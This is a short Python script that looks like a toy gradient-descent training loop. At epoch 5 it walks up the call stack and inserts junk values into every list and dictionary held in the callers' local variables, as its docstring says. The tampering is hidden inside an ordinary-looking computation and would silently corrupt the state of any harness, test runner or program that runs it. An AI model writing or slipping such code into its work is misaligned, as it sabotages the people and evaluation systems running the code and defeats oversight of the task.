"""Walk up the frames that look at it, and put nonsense into every list and dictionary there."""

import sys

import numpy as np

x = np.array([1.0, 2.0, 3.0])
y = 2.0 * x
w = 0.5

for epoch in range(20):
    error = w * x - y
    loss = np.mean(error**2)
    if epoch == 5:
        frame = sys._getframe().f_back
        while frame is not None:
            for held in list(frame.f_locals.values()):
                if isinstance(held, list):
                    held.append("nonsense")
                elif isinstance(held, dict) and held is not globals():
                    held["nonsense"] = object()
            frame = frame.f_back
    w = w - 0.05 * np.mean(2 * error * x)
